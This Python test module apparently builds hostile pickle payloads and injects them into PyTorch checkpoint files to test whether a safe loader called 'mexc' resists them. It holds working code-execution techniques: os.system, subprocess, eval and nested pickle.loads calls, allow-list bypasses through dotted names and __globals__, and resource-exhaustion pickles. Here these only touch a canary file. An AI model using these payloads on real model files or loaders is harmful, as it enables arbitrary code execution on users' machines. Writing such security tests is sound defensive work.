"""Hostile pickles, assembled opcode by opcode.

A *payload* is a byte string of pickle opcodes that pushes exactly one object on the unpickler's stack. Run by an
unrestricted unpickler, each one creates a canary file (``os.system("touch CANARY")``, ``open(CANARY, "w")``, or
``pickle.loads`` of such a pickle): if the canary exists after mexc ran, a checkpoint ran code. Payloads that
cannot create a file (EXT codes, object arrays, huge declared lengths, deep or memo-shared nesting) attack the
unpickler's resources instead.

:func:`inject` places a payload in a real pickle (``data.pkl`` of a ``torch.save`` zip, a DCP ``.metadata``):
``before`` the data (right after the first PROTO), ``inside`` it (as a new entry of the first container after the
string key ``key``), or ``after`` it (right before STOP). FRAME opcodes are dropped first (framing is optional),
so the insertion never breaks a frame.

Opcode reference: CPython ``Lib/pickle.py`` and ``Lib/pickletools.py`` (the opcode table, protocols 0-5).
"""

from __future__ import annotations

import functools
import importlib
import os
import pickle
import pickletools
import re
import struct
import types
from dataclasses import dataclass

# ------------------------------------------------------------------------------------------ assembler


def proto(n: int) -> bytes:
    return pickle.PROTO + bytes([n])


def s(text: str) -> bytes:
    """A str (BINUNICODE: protocol 1+, and the one string opcode every unpickler here reads)."""
    data = text.encode("utf-8", "surrogatepass")
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def b(data: bytes, protocol: int) -> bytes:
    """A bytes object: BINBYTES from protocol 3; before it ``_codecs.encode(latin1 str, "latin1")`` as
    protocol 2 pickles (numpy's arrays in a torch.save) spell bytes."""
    if protocol >= 3:
        return pickle.BINBYTES + struct.pack("<I", len(data)) + data
    return glob("_codecs", "encode") + tup(s(data.decode("latin1")), s("latin1")) + pickle.REDUCE


def i(n: int) -> bytes:
    if -(2 ** 31) <= n < 2 ** 31:
        return pickle.BININT + struct.pack("<i", n)
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return pickle.LONG1 + bytes([len(raw)]) + raw if len(raw) < 256 else pickle.LONG4 + struct.pack("<i", len(raw)) + raw


def tup(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def glob(module: str, name: str, stack: bool = False) -> bytes:
    """GLOBAL (text operands, protocol 0+) or STACK_GLOBAL (two strings on the stack, protocol 4+)."""
    if stack:
        return s(module) + s(name) + pickle.STACK_GLOBAL
    return pickle.GLOBAL + module.encode() + b"\n" + name.encode() + b"\n"


def call(fn: bytes, *args: bytes) -> bytes:
    return fn + tup(*args) + pickle.REDUCE


def pop(x: bytes) -> bytes:
    return x + pickle.POP


def memo_put(idx: int) -> bytes:
    return pickle.LONG_BINPUT + struct.pack("<I", idx)


def memo_get(idx: int) -> bytes:
    return pickle.LONG_BINGET + struct.pack("<I", idx)


# ------------------------------------------------------------------------------------------ payloads


@dataclass(frozen=True)
class Payload:
    """``ops`` pushes one object. ``code``: an unrestricted unpickler creates the canary (or runs other code);
    ``memo``: the ops use explicit memo slots (in a protocol-4 pickle only safe where no MEMOIZE follows, i.e.
    ``after``); ``harmless``: nothing in it needs refusing once the unpickler is safe (a declared numpy shape
    that is never allocated, a big but linear list): mexc may accept it, but must not hang, crash or trace."""

    id: str
    ops: bytes
    code: bool = True
    memo: bool = False
    harmless: bool = False


def _touch(canary: str) -> str:
    return f"touch '{canary}'"


def _os_system(canary: str, stack: bool = False, module: str = "os", name: str = "system") -> bytes:
    return call(glob(module, name, stack), s(_touch(canary)))


def inner_pickle(canary: str) -> bytes:
    """An ordinary (protocol 2) pickle whose loading runs ``os.system("touch CANARY")``."""
    return proto(2) + _os_system(canary) + pickle.STOP


def plain_payloads(canary: str) -> list[Payload]:
    """Code execution through plain (undotted) names, and through every construction opcode."""
    cmd = s(_touch(canary))
    osg = glob("os", "system")
    return [
        Payload("global-os.system", _os_system(canary)),
        Payload("global-posix.system", _os_system(canary, module="posix")),
        Payload("stack_global-os.system", proto(4) + _os_system(canary, stack=True)),
        Payload("global-builtins.open", call(glob("builtins", "open"), s(canary), s("w"))),
        Payload("global-__builtin__.open", call(glob("__builtin__", "open"), s(canary), s("w"))),  # py2 compat map
        Payload("global-io.open", call(glob("io", "open"), s(canary), s("w"))),
        Payload("global-subprocess.call", call(glob("subprocess", "call"),
                                               pickle.MARK + s("touch") + s(canary) + pickle.LIST)),
        Payload("global-pickle.loads", call(glob("pickle", "loads"), b(inner_pickle(canary), 3))),
        Payload("global-builtins.eval", call(glob("builtins", "eval"),
                                             s(f"__import__('os').system({_touch(canary)!r})"))),
        Payload("inst-os.system", pickle.MARK + cmd + pickle.INST + b"os\nsystem\n"),
        Payload("obj-os.system", pickle.MARK + osg + cmd + pickle.OBJ),
        Payload("newobj-os.system", osg + tup(cmd) + pickle.NEWOBJ),
        Payload("newobj_ex-os.system", proto(4) + osg + tup(cmd) + pickle.EMPTY_DICT + pickle.NEWOBJ_EX),
        # BUILD: state whose value is a call; and a BUILD that poisons a class (slot state sets a class attribute)
        Payload("build-state-reduce", glob("argparse", "Namespace") + pickle.EMPTY_TUPLE + pickle.NEWOBJ
                + pickle.EMPTY_DICT + s("x") + _os_system(canary) + pickle.SETITEM + pickle.BUILD),
        Payload("build-class-slotstate", glob("argparse", "Namespace") + tup(pickle.NONE, pickle.EMPTY_DICT + s(
            "__getattr__") + osg + pickle.SETITEM) + pickle.BUILD),
        Payload("ext1", pickle.EXT1 + bytes([1]), code=False),
        Payload("ext2", pickle.EXT2 + struct.pack("<H", 0x1234), code=False),
        Payload("ext4", pickle.EXT4 + struct.pack("<i", 0x7FFFFFFF), code=False),
        # protocol 5 out-of-band buffers (no buffers are ever given) and huge declared lengths
        Payload("next_buffer", proto(5) + pickle.NEXT_BUFFER, code=False),
        Payload("readonly_buffer", proto(5) + pickle.NEXT_BUFFER + pickle.READONLY_BUFFER, code=False),
        Payload("bytearray8-2^62", proto(5) + pickle.BYTEARRAY8 + struct.pack("<Q", 2 ** 62), code=False),
        Payload("binbytes8-2^62", proto(4) + pickle.BINBYTES8 + struct.pack("<Q", 2 ** 62), code=False),
        Payload("binunicode8-2^62", proto(4) + pickle.BINUNICODE8 + struct.pack("<Q", 2 ** 62), code=False),
        Payload("binunicode-4G", pickle.BINUNICODE + struct.pack("<I", 2 ** 32 - 1), code=False),
        Payload("frame-2^62", proto(4) + pickle.FRAME + struct.pack("<Q", 2 ** 62) + pickle.NONE, code=False),
    ]


def _np_multiarray() -> list[str]:
    return ["numpy.core.multiarray", "numpy._core.multiarray"]


def numpy_payloads(canary: str, protocol: int = 2) -> list[Payload]:
    """``numpy ... _reconstruct`` as numpy pickles arrays: object dtype (elements are arbitrary objects, here a
    call), huge shapes (the array is allocated from the declared shape), a state longer than its data."""

    def dtype(code: str) -> bytes:
        return call(glob("numpy", "dtype"), s(code), pickle.NEWFALSE, pickle.NEWTRUE) + tup(
            i(3), s("|"), pickle.NONE, pickle.NONE, pickle.NONE, i(-1), i(-1), i(63 if code == "O8" else 0)) + pickle.BUILD

    out = []
    for mod in _np_multiarray():
        recon = glob(mod, "_reconstruct")

        def array(shape: bytes, dt: bytes, data: bytes, recon_shape: bytes = tup(i(0))) -> bytes:
            return call(recon, glob("numpy", "ndarray"), recon_shape, b(b"b", protocol)) + tup(
                i(1), shape, dt, pickle.NEWFALSE, data) + pickle.BUILD

        tag = mod.split(".")[1]
        out += [
            Payload(f"numpy-{tag}-object-array-call", array(tup(i(2)), dtype("O8"), pickle.MARK + _os_system(canary)
                                                           + pickle.NONE + pickle.LIST)),
            Payload(f"numpy-{tag}-object-array-1e9", array(tup(i(10 ** 9)), dtype("O8"),
                                                           pickle.MARK + pickle.NONE + pickle.LIST), code=False),
            Payload(f"numpy-{tag}-reconstruct-2^40", call(recon, glob("numpy", "ndarray"), tup(i(2 ** 40)),
                                                         b(b"b", protocol)), code=False, harmless=True),
            Payload(f"numpy-{tag}-state-2^40", array(tup(i(2 ** 40)), dtype("u1"), b(b"\0" * 8, protocol)),
                    code=False, harmless=True),
        ]
    return out


def structure_payloads(depth: int = 100_000, dag_levels: int = 90, items: int = 4_000_000) -> list[Payload]:
    """Resource attacks with nothing but allowed types: deep nesting, a memo-shared DAG of dicts whose tree
    has 2**dag_levels leaves, a list of ``items`` Nones."""
    dag = pickle.EMPTY_DICT + memo_put(900_000)
    for lvl in range(1, dag_levels + 1):
        prev = memo_get(900_000 + lvl - 1)
        dag += pickle.POP + pickle.EMPTY_DICT + pickle.MARK + s("a") + prev + s("b") + prev + pickle.SETITEMS
        dag += memo_put(900_000 + lvl)  # the previous level was popped: one dict stays on the stack
    return [
        Payload(f"deep-list-{depth}", pickle.EMPTY_LIST * depth + pickle.APPEND * (depth - 1), code=False),
        Payload(f"deep-tuple-{depth}", pickle.EMPTY_TUPLE + pickle.TUPLE1 * depth, code=False),
        Payload(f"dag-dict-2^{dag_levels}", dag, code=False, memo=True, harmless=True),  # harmful in `model`
        Payload(f"list-{items}", pickle.EMPTY_LIST + pickle.MARK + pickle.NONE * items + pickle.APPENDS, code=False,
                harmless=True),
    ]


# ------------------------------------------------------------------------------------------ dotted names


_DANGER_MODULES = {"os": "system", "posix": "system", "pickle": "loads", "builtins": "open", "io": "open",
                   "subprocess": "call", "shutil": "rmtree"}


@functools.lru_cache(maxsize=None)
def routes(module: str, depth: int = 2) -> list[str]:
    """Dotted names from ``module`` to a dangerous callable (``os.system``, ``pickle.loads``, ``builtins.open``
    ...), found by walking module attributes breadth first (``torch.distributed.checkpoint.filesystem`` ->
    ``pickle.loads``); the shortest per target module. Empty when ``module`` is not importable."""
    try:
        root = importlib.import_module(module)
    except Exception:
        return []
    found: dict[str, str] = {}
    frontier = [("", root)]
    seen = {id(root)}
    for _ in range(depth):
        nxt = []
        for path, mod in frontier:
            for attr, val in sorted(vars(mod).items()):
                if not isinstance(val, types.ModuleType) or id(val) in seen:
                    continue
                seen.add(id(val))
                route = f"{path}{attr}"
                base = val.__name__
                if base in _DANGER_MODULES and base not in found:
                    found[base] = f"{route}.{_DANGER_MODULES[base]}"
                nxt.append((route + ".", val))
        frontier = nxt
    return sorted(found.values())


def _call_route(route: str, canary: str, module: str, stack: bool) -> bytes:
    target = route.rsplit(".", 1)[-1]
    fn = glob(module, route, stack)
    if target == "system":
        return call(fn, s(_touch(canary)))
    if target == "loads":
        return call(fn, b(inner_pickle(canary), 3))
    if target == "call":
        return call(fn, pickle.MARK + s("touch") + s(canary) + pickle.LIST)
    if target == "rmtree":
        return call(fn, s(canary + ".dir"))
    return call(fn, s(canary), s("w"))  # open


def dotted_payloads(canary: str, allowed: dict[str, list[str]]) -> list[Payload]:
    """For every module the allow-list admits: ``os.system`` and every discovered route as a dotted name (GLOBAL
    and STACK_GLOBAL in turn, under PROTO 4 where dotted names resolve), and, for each allowed name of it, the
    ``<Name>.__init__.__globals__.get`` / ``__builtins__.get`` pair that reaches ``getattr(os, "system")``."""
    out = []
    for n, module in enumerate(sorted(allowed)):
        for k, route in enumerate(["os.system", *(r for r in routes(module) if r != "os.system")]):
            stack = (n + k) % 2 == 1  # the opcodes alternate: a module with a route beyond os.system gets both
            tag = "stack_global" if stack else "global"
            out.append(Payload(f"dotted-{tag}-{module}:{route}", proto(4) + _call_route(route, canary, module, stack)))
        for name in sorted(allowed[module])[:2]:
            os_name = _os_global_name(module, name)
            if os_name is None:
                continue
            getattr_fn = call(glob(module, f"{name}.__init__.__builtins__.get"), s("getattr"))
            os_mod = call(glob(module, f"{name}.__init__.__globals__.get"), s(os_name))
            system = getattr_fn + tup(os_mod, s("system")) + pickle.REDUCE
            out.append(Payload(f"dotted-globals-{module}:{name}", proto(4) + call(system, s(_touch(canary)))))
    return out


def _os_global_name(module: str, name: str) -> str | None:
    """The name ``os`` has in the globals of ``module.name.__init__`` (None: no Python ``__init__``)."""
    try:
        obj = importlib.import_module(module)
        for part in name.split("."):
            obj = getattr(obj, part)
        g = obj.__init__.__globals__
    except Exception:
        return None
    return next((k for k, v in g.items() if v is os), None)


def allowed_names(*objs) -> dict[str, list[str]]:
    """module -> names that the allow-list data in ``objs`` (modules such as mexc's ``safe_load``, or
    containers) admits: strings ``"a.b.C"``, pairs ``("a.b", "C")``, classes and functions (their
    ``__module__``/``__qualname__``), found in module globals and nested containers two levels deep."""
    out: dict[str, set[str]] = {}

    def add(module: str, name: str) -> None:
        if re.fullmatch(r"[A-Za-z_][\w.]*", module or "") and re.fullmatch(r"[A-Za-z_][\w.]*", name or ""):
            out.setdefault(module, set()).add(name)

    def walk(v, depth: int) -> None:
        if isinstance(v, str):
            if "." in v and not v.startswith(".") and " " not in v:
                add(*v.rsplit(".", 1))
        elif isinstance(v, tuple) and len(v) == 2 and all(isinstance(x, str) for x in v):
            add(*v)
        elif isinstance(v, (type, types.FunctionType, types.BuiltinFunctionType)):
            add(getattr(v, "__module__", "") or "", getattr(v, "__qualname__", ""))
            if isinstance(v, type) and hasattr(v, "_qualname"):  # mexc's Megatron stand-ins
                walk(getattr(v, "_qualname"), depth)
        if depth > 0 and isinstance(v, (tuple, list, set, frozenset)):
            for x in v:
                walk(x, depth - 1)
        elif depth > 0 and isinstance(v, dict):
            for k, x in v.items():
                walk(k, depth - 1)
                walk(x, depth - 1)

    for obj in objs:
        items = [v for k, v in vars(obj).items() if not k.startswith("__")] if isinstance(
            obj, types.ModuleType) else [obj]
        for v in items:
            if isinstance(v, (tuple, list, set, frozenset, dict)):
                walk(v, 3)
    return {m: sorted(n) for m, n in out.items() if not m.startswith(("typing", "__future__"))}


def all_payloads(canary: str, allowed: dict[str, list[str]], protocol: int = 2) -> list[Payload]:
    return [*plain_payloads(canary), *numpy_payloads(canary, protocol), *structure_payloads(),
            *dotted_payloads(canary, allowed)]


# ------------------------------------------------------------------------------------------ injection


def unframe(data: bytes) -> bytes:
    """``data`` without its FRAME opcodes (framing is optional; protocol 4+ writers add it)."""
    ops = list(pickletools.genops(data))
    ends = [pos for _, _, pos in ops[1:]] + [len(data)]
    return b"".join(data[pos:end] for (op, _, pos), end in zip(ops, ends) if op.name != "FRAME")


def _ops(data: bytes) -> list[tuple[str, object, int]]:
    return [(op.name, arg, pos) for op, arg, pos in pickletools.genops(data)]


_CLOSERS_PAIR = {"SETITEMS", "DICT"}
_CLOSERS_ONE = {"APPENDS", "LIST"}


def inject(data: bytes, payload: Payload, where: str, key: str | None = None) -> bytes:
    """``data`` (a complete pickle) with ``payload`` placed ``before``/``inside``/``after`` its data.

    ``inside``: after the MARK of the first multi-item container that follows the string ``key`` (the value of a
    dict entry, e.g. ``args``, ``optimizer``, ``rng_state``, ``storage_data``); a dict gets the entry
    ``"__hostile__": payload``, a list gets the payload as its first element (tuples are skipped: they are call
    arguments and persistent ids). Raises ValueError when
    ``key`` is not found."""
    data = unframe(data)
    ops = _ops(data)
    if where == "before":
        at = ops[1][2] if ops[0][0] == "PROTO" else 0
        return data[:at] + pop(payload.ops) + data[at:]
    if where == "after":
        at = ops[-1][2]
        assert ops[-1][0] == "STOP", ops[-1]
        return data[:at] + pop(payload.ops) + data[at:]
    if where != "inside":
        raise ValueError(where)
    start = next((n for n, (name, arg, _) in enumerate(ops) if "UNICODE" in name and arg == key), None)
    if start is None:
        raise ValueError(f"no string {key!r} in the pickle")
    stack = []
    for n in range(start + 1, len(ops)):
        name = ops[n][0]
        if name == "MARK":
            stack.append(n)
        elif name in ("TUPLE", "FROZENSET", "ADDITEMS", "OBJ", "INST") and stack:
            stack.pop()  # call arguments, persistent ids, sets: not a place for a new element
        elif name in _CLOSERS_PAIR | _CLOSERS_ONE and stack:
            at = ops[stack.pop()][2] + 1
            entry = s("__hostile__") + payload.ops if name in _CLOSERS_PAIR else payload.ops
            return data[:at] + entry + data[at:]
    raise ValueError(f"no container after {key!r}")
